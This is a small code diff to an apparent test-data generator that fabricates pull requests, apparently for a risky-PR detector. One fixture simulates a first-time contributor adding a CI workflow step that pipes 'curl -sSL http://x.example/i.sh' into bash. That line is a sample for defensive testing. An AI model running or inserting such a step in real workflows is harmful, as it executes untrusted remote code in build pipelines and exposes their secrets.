@@ -32,7 +32,8 @@ def pr_doc(repo: str, number: int, rng: random.Random, created: dt.datetime,
     title, branch, body = f"Improve module {number}", f"feature/change-{number}", "Details of the change."
     if kind == "workflow_curl_pipe":
         association, author = "FIRST_TIME_CONTRIBUTOR", f"newcomer{number}"
-        files = [_file(".github/workflows/ci.yml", 3, 0, "+      - run: curl -sSL http://x.example/i.sh | bash")]
+        files = [_file(".github/workflows/ci.yml", 3, 0, "@@ -12,0 +13,3 @@\n+      - name: Setup\n+        run: |\n"
+                       "+          curl -sSL http://x.example/i.sh | bash")]
     elif kind == "binary_blob":
         files = [_file("tests/fixtures/data.bin", 0, 0)]
         files[0]["status"] = "added"
